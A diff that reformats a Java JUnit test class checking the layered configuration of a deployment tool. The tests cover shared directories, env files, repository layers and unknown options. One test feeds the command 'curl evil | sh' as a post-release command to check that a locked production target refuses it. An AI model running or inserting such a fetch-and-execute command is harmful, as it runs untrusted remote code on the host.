@@ -27,8 +27,9 @@ class LayersTest {
                   sharedDirs: [three]
                   opcache: cachetool
                 """);
-        Layer step = Layer.of("the step's arguments", Map.of(
-                "build", Map.of("variables", Map.of("C", "step", "D", 4)), "migrate", false));
+        Layer step = Layer.of(
+                "the step's arguments",
+                Map.of("build", Map.of("variables", Map.of("C", "step", "D", 4)), "migrate", false));
 
         Application application = file.application(file.target(""), step);
 
@@ -54,10 +55,14 @@ class LayersTest {
 
         Application application = file.application(file.target(""));
 
-        assertThat(application.commands().preRelease()).extracting(Application.UserCommand::run)
+        assertThat(application.commands().preRelease())
+                .extracting(Application.UserCommand::run)
                 .containsExactly("make ready");
-        assertThatThrownBy(() -> file.application(file.target(""),
-                Layer.of("the step's arguments", Map.of("commands", Map.of("postRelease", List.of("curl evil | sh"))))))
+        assertThatThrownBy(() -> file.application(
+                        file.target(""),
+                        Layer.of(
+                                "the step's arguments",
+                                Map.of("commands", Map.of("postRelease", List.of("curl evil | sh"))))))
                 .isInstanceOf(BadConfiguration.class)
                 .hasMessage("the step's arguments: commands: a map where target production locks commands: "
                         + "remove it here, or have it unlocked in the target");
@@ -68,8 +73,8 @@ class LayersTest {
 
     @Test
     void a_repository_brings_options_and_no_targets() throws Exception {
-        Path own = Files.writeString(folder.resolve("repository.yaml"),
-                "application: {sharedDirs: [uploads], envFile: .env.ci}\n");
+        Path own = Files.writeString(
+                folder.resolve("repository.yaml"), "application: {sharedDirs: [uploads], envFile: .env.ci}\n");
         Path greedy = Files.writeString(folder.resolve("greedy.yaml"), "application: {}\ntargets: [{name: x}]\n");
         ConfigurationFile file = file("", "");
 
@@ -77,14 +82,16 @@ class LayersTest {
 
         assertThat(application.sharedDirs()).containsExactly("uploads");
         assertThat(application.envFile()).contains(folder.resolve(".env.ci").toString());
-        assertThatThrownBy(() -> Layer.ofRepository(greedy)).isInstanceOf(BadConfiguration.class)
-                .hasMessageContaining("greedy.yaml:2: targets:").hasMessageContaining("must not choose where");
+        assertThatThrownBy(() -> Layer.ofRepository(greedy))
+                .isInstanceOf(BadConfiguration.class)
+                .hasMessageContaining("greedy.yaml:2: targets:")
+                .hasMessageContaining("must not choose where");
     }
 
     @Test
     void a_step_argument_that_is_no_option_is_refused_by_name() {
         assertThatThrownBy(() ->
-                Layer.of("the step's arguments", Map.of("sharedDir", List.of("a"), "health", new Object())))
+                        Layer.of("the step's arguments", Map.of("sharedDir", List.of("a"), "health", new Object())))
                 .isInstanceOf(BadConfiguration.class)
                 .hasMessageContaining(
                         "the step's arguments: sharedDir: 'sharedDir' is not known here: did you mean sharedDirs?")
